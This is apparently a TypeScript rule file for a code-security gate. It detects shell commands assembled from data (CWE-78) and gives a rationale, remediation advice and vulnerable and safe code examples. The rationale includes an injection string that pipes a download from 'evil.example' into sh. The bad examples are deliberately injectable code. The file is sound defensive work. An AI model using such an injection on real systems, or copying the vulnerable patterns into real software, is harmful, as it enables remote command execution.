// Data put together into a command line that a shell will read.
import { inspectCalls } from '../../src/gates/code/ast/inspect.ts';
import { shellDataOf } from '../../src/gates/code/ast/shell.ts';
import { defineCodeRule } from '../../src/gates/code/rule.ts';

export const rule = defineCodeRule({
  id: 'code/shell-command-from-data',
  title: 'Shell command put together from data',
  rationale:
    'The shell reads the finished text, not the pieces: whoever controls one piece adds `; curl evil.example | sh`, `$(…)` or `&&` and runs commands of their own with the rights of this process. In an agent, file names, branch names, model output and tool arguments are all such pieces.',
  remediation:
    "Run the program without a shell and hand each argument over by itself: `execFile('git', ['log', branch])` or `spawn` without `shell`. Put `--` before arguments that could begin with a dash. Where a shell is really needed, pass the data through the environment and write `\"$NAME\"` in a fixed script.",
  severity: 'high',
  confidence: 'medium',
  blocks: true,
  cwe: [78],
  references: [
    'https://cwe.mitre.org/data/definitions/78.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback',
  ],
  examples: {
    bad: [
      { code: "import { exec } from 'node:child_process';\nexport function log(branch: string) { exec(`git log ${branch}`); }" },
      {
        file: 'a.js',
        code: "const cp = require('child_process');\nmodule.exports = (dir) => { let cmd = 'ls -l '; cmd += dir; cp.execSync(cmd); };",
      },
      {
        code: "import * as cp from 'child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(cp.exec);\nexport const show = (file: string) => run('cat ' + file);",
      },
      {
        code: "import { spawn } from 'node:child_process';\nexport const build = (target: string) => spawn('make', [target], { shell: true });",
      },
      {
        code: "import { spawn } from 'node:child_process';\nexport const find = (name: string) => spawn('bash', ['-c', `find . -name ${name}`]);",
      },
      { code: "import { exec } from 'child_process';\nexport const handler = (req: any) => exec(req.query.command);" },
      {
        code: "import cp from 'child_process';\nexport const add = (files: string[]) => { const list = ['git', 'add']; list.push(...files); cp.execSync(list.join(' ')); };",
      },
    ],
    good: [
      {
        code: "import { execFile } from 'node:child_process';\nexport function log(branch: string) { execFile('git', ['log', '--', branch]); }",
      },
      {
        code: "import { execSync } from 'node:child_process';\nconst flag = '--short';\nexport const head = execSync(`git rev-parse ${flag} HEAD`);",
      },
      { code: "import { execSync } from 'node:child_process';\nfor (const name of ['core', 'cli']) execSync(`npm run build -w ${name}`);" },
      { code: "import { exec } from 'node:child_process';\nexport const kill = (pid: number) => exec(`kill -9 ${pid}`);" },
      {
        code: "import { exec } from 'node:child_process';\nimport { quote } from 'shell-quote';\nexport const show = (file: string) => exec(`cat ${quote([file])}`);",
      },
      { code: "const pattern = /a(b)/;\nexport const find = (text: string) => pattern.exec('x' + text);" },
      { code: "import { spawn } from 'node:child_process';\nexport const git = (args: string[]) => spawn('git', args, { shell: false });" },
    ],
  },
  match: inspectCalls((call, file) =>
    shellDataOf(call, file) === 'built'
      ? 'A shell reads this command, and part of it is data: pass arguments as a list to a program run without a shell.'
      : null,
  ),
});
